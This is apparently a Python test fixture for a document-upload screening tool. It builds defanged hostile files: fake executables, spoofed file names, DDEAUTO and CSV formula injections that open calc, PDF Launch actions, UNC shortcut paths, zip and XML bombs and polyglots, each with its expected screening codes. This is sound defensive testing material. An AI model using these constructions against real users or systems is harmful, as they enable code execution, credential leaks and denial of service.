"""Hostile files, each with the name it comes under and the codes that screening must give it.

Harmless in truth: the programs end at once or are no programs at all, the commands name what is not there.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass

import documents

_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PE = b"MZ" + bytes(58) + struct.pack("<L", 64) + b"PE\0\0d\x86" + bytes(18) + b"\x0b\2" + bytes(300)
ELF = b"\x7fELF\2\1\1" + bytes(57)


@dataclass(frozen=True, slots=True, kw_only=True)
class Hostile:
    """A file: its name, its bytes, the codes that must be among those found, and the class."""

    name: str
    data: bytes
    codes: frozenset[str]
    class_: str


def zipped(files: Mapping[str, bytes], *, packed: bool = True, front: bytes = b"") -> bytes:
    """A zip."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED)
    return front + out.getvalue()


def with_parts(name: str, parts: Mapping[str, bytes]) -> bytes:
    """A real document with some parts more, or others."""
    with zipfile.ZipFile(documents.document(name)) as whole:
        kept = {entry.filename: whole.read(entry) for entry in whole.infolist() if entry.filename not in parts}
    return zipped({**kept, **parts})


def without_field(name: str, part: str, marks: tuple[bytes, bytes]) -> bytes:
    """A real document with something put into a part before a mark."""
    with zipfile.ZipFile(documents.document(name)) as whole:
        text = whole.read(part)
    assert marks[0] in text
    return with_parts(name, {part: text.replace(marks[0], marks[1] + marks[0], 1)})


def docx_with(field: bytes) -> bytes:
    return without_field("letter-nl.docx", "word/document.xml", (b"<w:p>", b"<w:p>" + field + b"</w:p>"))


def field(*runs: bytes) -> bytes:
    """A field of Word, its instruction spread over runs."""
    mark = b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    told = b"".join(b'<w:r><w:instrText xml:space="preserve">%s</w:instrText></w:r>' % run for run in runs)
    return mark % b"begin" + told + mark % b"separate" + b"<w:r><w:t>x</w:t></w:r>" + mark % b"end"


def relation(kind: str, target: str) -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    ).encode()


def package(label: bytes, content: bytes) -> bytes:
    """An OLE package's stream, in a file that has the mark of a compound file."""
    told = b"\2\0" + label + b"\0C:\\x\\" + label + b"\0\0\0\3\0" + struct.pack("<L", 4) + b"C:\\\0"
    native = struct.pack("<L", len(content)) + told + struct.pack("<L", len(content)) + content
    return (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "\x01Ole10Native".encode("utf-16-le") + bytes(512) + native
    )


def pdf(*objects: bytes, packed: bytes = b"") -> bytes:
    """A PDF of these objects after its catalogue; those in ``packed`` stand in an object stream."""
    out = b"%PDF-1.5\n"
    places = []
    bodies = [b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"]
    bodies += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", *objects]
    if packed:
        stream = zlib.compress(packed)
        told = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>" % len(stream)
        bodies.append(told + b"\nstream\n" + stream + b"\nendstream")
    for number, body in enumerate(bodies, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, table)
    return out + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, start)


def shortcut(target: str, arguments: str = "") -> bytes:
    """A shortcut of Windows."""
    flags = 0x80 | 0x8 | (0x20 if arguments else 0)
    head = b"L\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0F" + struct.pack("<L", flags) + bytes(52)
    texts = [target] + ([arguments] if arguments else [])
    return head + b"".join(struct.pack("<H", len(text)) + text.encode("utf-16-le") for text in texts) + bytes(4)


def png(width: int, height: int, rows: bytes = b"") -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))

    head = struct.pack(">LLBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def overlapping() -> bytes:
    """A flat bomb: one kernel that many entries of the list share."""
    whole = bytearray(zipped({f"{number:03}": bytes(100_000) for number in range(2)}))
    end = whole.rindex(b"PK\5\6")
    start = int.from_bytes(whole[end + 16 : end + 20], "little")
    second = whole.index(b"PK\1\2", start + 4)
    whole[second + 42 : second + 46] = whole[start + 42 : start + 46]
    return bytes(whole)


def nested(depth: int = 1) -> bytes:
    inner = zipped({"0": bytes(8 << 20)})
    for _ in range(depth):
        inner = zipped({f"{number}.zip": inner for number in range(10)})
    return inner


def flat(size: int) -> bytes:
    """A zip with one entry of zeros that says truly how many there are."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("zeros", "w", force_zip64=True) as entry,
    ):
        for _ in range(size >> 20):
            entry.write(bytes(1 << 20))
    return out.getvalue()


LAUGHS = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x0 "ha">' + b"".join(
    b'<!ENTITY x%d "%s">' % (number, b"&x%d;" % (number - 1) * 10) for number in range(1, 10)
)


MAIL = (
    b"From: a@b\r\nTo: c@d\r\nDate: x\r\nSubject: x\r\nMIME-Version: 1.0\r\n\r\n--x\r\n"
    b'Content-Disposition: attachment; filename="x.pdf.exe"\r\n\r\nTVo=\r\n'
)


def _told(name: str, data: bytes, class_: str, *codes: str) -> Hostile:
    return Hostile(name=name, data=data, codes=frozenset(codes), class_=class_)


def _half(name: str) -> bytes:
    data = documents.document(name).read_bytes()
    return data[: len(data) * 2 // 3]


def _real(name: str) -> bytes:
    return documents.document(name).read_bytes()


def all_hostile() -> list[Hostile]:
    """All of them."""
    macro = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
    return [
        # programs and scripts
        _told("setup.exe", PE, "refuse", "program"),
        _told("plaatje.jpg", PE, "refuse", "program"),
        _told("verslag", ELF, "refuse", "program"),
        _told("verslag.pdf.exe", PE, "refuse", "program", "double-extension"),
        _told("verslag.docx      .scr", b"tekst", "refuse", "double-extension", "program"),
        _told("leeg.exe", b"", "refuse", "program", "empty"),
        _told("foto\u202egpj.exe", PE, "refuse", "program", "name-turned"),
        _told("foto.jpg.lnk", shortcut("C:\\x\\foto.jpg"), "refuse", "double-extension"),
        _told("opruimen.bat", b"@echo off\r\ndel *.*\r\n", "refuse", "script"),
        _told("opruimen", b"@echo off\r\ndel *.*\r\n", "refuse", "script"),
        _told("rekening.hta", b"<html><hta:application/></html>", "refuse", "script"),
        _told("rekening.vbs", b"MsgBox 1", "refuse", "script"),
        _told("rekening.ps1", b"Write-Host hallo", "refuse", "script"),
        _told("rekening.reg", b"Windows Registry Editor Version 5.00\r\n", "refuse", "script"),
        _told("rekening.chm", b"ITSF\3\0\0\0" + bytes(600), "refuse", "script"),
        _told("rekenen.py", b"print(1)\n", "hold", "source-code"),
        _told("rekenen", b"#!/bin/sh\necho 1\n", "hold", "source-code"),
        _told(
            "app.jar",
            zipped({"META-INF/MANIFEST.MF": b"Main-Class: x", "x.class": b"\xca\xfe\xba\xbe"}),
            "refuse",
            "program",
        ),
        _told(
            "app.docx",
            zipped({"META-INF/MANIFEST.MF": b"Main-Class: x", "x.class": b"\xca\xfe\xba\xbe"}),
            "refuse",
            "program",
        ),
        _told("autorun.inf", b"[AutoRun]\r\nopen=x.exe\r\n", "refuse", "autorun"),
        _told("AUTORUN.INF", b"iets", "refuse", "autorun"),
        _told("iets.txt", b"[autorun]\r\nopen=x.exe\r\n", "refuse", "autorun"),
        _told("schijf.iso", bytes(32769) + b"CD001" + bytes(40_000), "hold", "disk-image"),
        _told("schijf.vhdx", b"vhdxfile" + bytes(600), "hold", "disk-image"),
        _told(
            "test.com",
            b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR" + b"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
            "refuse",
            "malware",
        ),
        # stubs and shortcuts
        _told("verslag.lnk", shortcut("C:\\Users\\x\\verslag.docx"), "hold", "stub-shortcut"),
        _told("verslag.lnk", shortcut("C:\\Windows\\System32\\cmd.exe", "/c calc"), "refuse", "shortcut-command"),
        _told("verslag", shortcut("..\\x.exe"), "refuse", "shortcut-command"),
        _told("site.url", b"[InternetShortcut]\r\nURL=https://example.org/\r\n", "hold", "stub-web"),
        _told("site.url", b"[InternetShortcut]\r\nURL=file://192.0.2.1/x/y.exe\r\n", "refuse", "shortcut-command"),
        _told(
            "site.url",
            b"[InternetShortcut]\r\nURL=https://e.org\r\nIconFile=\\\\192.0.2.1\\x.ico\r\n",
            "refuse",
            "shortcut-command",
        ),
        _told(
            "site.webloc",
            b'<?xml version="1.0"?><plist><dict><key>URL</key><string>https://e.org</string></dict></plist>',
            "hold",
            "stub-web",
        ),
        _told("start.desktop", b"[Desktop Entry]\nType=Application\nExec=sh -c x\n", "refuse", "shortcut-command"),
        _told("site.desktop", b"[Desktop Entry]\nType=Link\nURL=https://example.org/\n", "hold", "stub-web"),
        _told("x.scf", b"[Shell]\r\nIconFile=\\\\192.0.2.1\\x\r\n", "refuse", "shortcut-command"),
        _told("Plan.gdoc", b'{"url":"https://docs.google.com/document/d/1","doc_id":"1"}', "hold", "stub-cloud"),
        _told("Plan.gsheet", b'{"doc_id":"1"}', "hold", "stub-cloud"),
        _told(".Plan.docx.icloud", b"bplist00" + bytes(60), "hold", "stub-cloud"),
        _told("leeg.docx", b"", "pass", "empty"),
        _told("~$rslag.docx", b"\x04Jan " + bytes(157), "pass", "lock-file"),
        _told(".~lock.verslag.odt#", b",jan,pc,24.11.2026 10:00,file:///home/jan;", "pass", "lock-file"),
        _told("film.mp4.crdownload", b"\0\0\0\x18ftypmp42" + bytes(100), "hold", "unfinished"),
        # Office
        _told("verslag.docm", with_parts("letter-nl.docx", {"word/vbaProject.bin": macro}), "hold", "macros"),
        _told("verslag.docx", with_parts("letter-nl.docx", {"word/vbaProject.bin": macro}), "hold", "macros"),
        _told("cijfers.xlsm", with_parts("sheets-nl.xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"}), "hold", "macros"),
        _told("verslag.odt", with_parts("letter-nl.odt", {"Basic/Standard/Module1.xml": b"<x/>"}), "hold", "macros"),
        _told("verslag.odt", with_parts("letter-nl.odt", {"Scripts/python/x.py": b"pass"}), "hold", "macros"),
        _told(
            "verslag.docx",
            docx_with(field(b' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" ')),
            "refuse",
            "dde-command",
        ),
        _told("verslag.docx", docx_with(field(b" DD", b"EAU", b'TO "cm', b'd" "/k calc" ')), "refuse", "dde-command"),
        _told("verslag.docx", docx_with(field(b' DDE Excel "cijfers.xlsx" "R1C1" ')), "hold", "dde"),
        _told(
            "cijfers.xlsx",
            with_parts(
                "sheets-nl.xlsx",
                {"xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd" ddeTopic="/c"/></x>'},
            ),
            "refuse",
            "dde-command",
        ),
        _told(
            "verslag.docx",
            with_parts(
                "letter-nl.docx",
                {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://example.org/x.dotm")},
            ),
            "hold",
            "remote-content",
        ),
        _told(
            "verslag.docx",
            with_parts(
                "letter-nl.docx", {"word/_rels/x.xml.rels": relation("oleObject", "mhtml:http://example.org/x.html!x")}
            ),
            "hold",
            "remote-content",
        ),
        _told(
            "verslag.docx",
            with_parts("letter-nl.docx", {"word/embeddings/oleObject1.bin": package(b"x.exe", PE)}),
            "refuse",
            "embedded-program",
        ),
        _told(
            "verslag.docx",
            with_parts("letter-nl.docx", {"word/embeddings/oleObject1.bin": package(b"bijlage.pdf", b"%PDF-1.4")}),
            "pass",
            "embedded-file",
        ),
        # PDF
        _told("a.pdf", pdf(b"<</S/JavaScript/JS(app.alert\\(1\\))>>"), "hold", "pdf-script"),
        _told("a.pdf", pdf(b"<</S/J#61vaScript/J#53 5 0 R>>"), "hold", "pdf-script"),
        _told("a.pdf", pdf(packed=b"4 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"), "hold", "pdf-script"),
        _told("a.pdf", pdf(b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>"), "refuse", "pdf-launch"),
        _told("a.pdf", pdf(b"<</S/Launch/F(..\\\\x.exe)>>"), "refuse", "pdf-launch"),
        _told(
            "a.pdf",
            pdf(
                b"<</Type/Filespec/F(x.exe)/EF<</F 5 0 R>>>>", b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream"
            ),
            "refuse",
            "embedded-program",
        ),
        _told(
            "a.pdf",
            pdf(
                b"<</Type/Filespec/F(factuur.xml)/EF<</F 5 0 R>>>>",
                b"<</Type/EmbeddedFile/Length 2>>\nstream\n<a\nendstream",
            ),
            "pass",
            "embedded-file",
        ),
        # tables, texts, pages, mail
        _told("t.csv", b"naam;bedrag\r\nx;=cmd|'/C calc'!A0\r\n", "refuse", "dde-command"),
        _told("t.csv", b"naam,bedrag\n\"=2+5+cmd|' /C calc'!A0\",2\n", "refuse", "dde-command"),
        _told("t.csv", b"a,b\n=Excel|'cijfers.xls'!A1,2\n", "hold", "dde"),
        _told("t.slk", b'ID;P\nC;X1;Y1;EEXEC("calc")\nE\n', "hold", "macros"),
        _told("t.iqy", b"WEB\n1\nhttp://example.org/x\n", "hold", "remote-content"),
        _told("t.rtf", b'{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}{\\fldrslt x}}}', "refuse", "dde-command"),
        _told("t.rtf", b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105}}}", "hold", "rtf-object"),
        _told("t.rtf", b"{\\rtf1{\\*\\template http://example.org/x}}", "hold", "remote-content"),
        _told(
            "t.rtf",
            b"{\\rtf1{\\object\\objemb{\\*\\objdata " + package(b"x.js", b"1").hex().encode() + b"}}}",
            "refuse",
            "embedded-program",
        ),
        _told("p.html", b"<html><body onload=x()></body></html>", "pass", "page-script"),
        _told("p.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>', "hold", "picture-script"),
        _told("p.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "hold", "picture-script"),
        _told(
            "m.eml",
            MAIL,
            "refuse",
            "embedded-program",
        ),
        # archives and bombs
        _told("a.zip", zipped({"lees.txt": b"x", "setup.exe": PE}), "hold", "archive-program"),
        _told("a.zip", zipped({"../../x.txt": b"x"}), "hold", "archive-path"),
        _told("a.zip", zipped({"/etc/x": b"x"}), "hold", "archive-path"),
        _told("a.zip", zipped({"oud.cab": b"MSCF\0\0\0\0" + bytes(60)}), "pass", "inside-unseen"),
        _told("bom.zip", flat(128 << 20), "hold", "oversized"),
        _told("bom.zip", overlapping(), "refuse", "bomb"),
        _told("bom.zip", nested(), "refuse", "bomb"),
        _told("bom.xml", LAUGHS + b"]><a>&x9;</a>", "refuse", "bomb"),
        _told(
            "bom.docx", with_parts("letter-nl.docx", {"word/document.xml": LAUGHS + b"]><a>&x9;</a>"}), "refuse", "bomb"
        ),
        _told("bom.png", png(60_000, 60_000, bytes(1000)), "hold", "oversized"),
        _told(
            "bom.pdf",
            pdf(
                b"<</Length 20/Filter[/FlateDecode/FlateDecode/FlateDecode]>>\nstream\n"
                + zlib.compress(zlib.compress(zlib.compress(bytes(99999))))
                + b"\nendstream"
            ),
            "hold",
            "oversized",
        ),
        # two kinds at once
        _told("p.pdf", pdf(b"null") + zipped({"x.class": b"1"}), "hold", "polyglot"),
        _told("p.jpg", _real("camera.jpg") + zipped({"x.class": b"1"}), "hold", "polyglot"),
        _told("p.gif", b"GIF89a/*" + bytes(20) + b"*/=1;</script><script>x()</script>;", "hold", "polyglot"),
        _told("p.png", png(1, 1, bytes(2)) + zipped({"x.class": b"1"}), "hold", "polyglot"),
        # broken
        _told("t.docx", _half("letter-nl.docx"), "hold", "truncated"),
        _told("t.odt", _half("letter-nl.odt"), "hold", "truncated"),
        _told("t.pdf", _half("letter-nl.pdf"), "hold", "truncated"),
        _told("t.doc", _half("letter-nl.doc"), "hold", "truncated"),
        _told("nullen.docx", bytes(300_000), "hold", "blank"),
        _told("locked.docx", _real("locked-nl.docx"), "hold", "encrypted"),
        _told("locked.odt", _real("locked-nl.odt"), "hold", "encrypted"),
        _told("locked.pdf", _real("locked-nl.pdf"), "hold", "encrypted"),
        _told("foto.png", _real("letter-nl.pdf"), "pass", "wrong-extension"),
        _told("verslag.pdf", _real("letter-nl.docx"), "pass", "wrong-extension"),
    ]
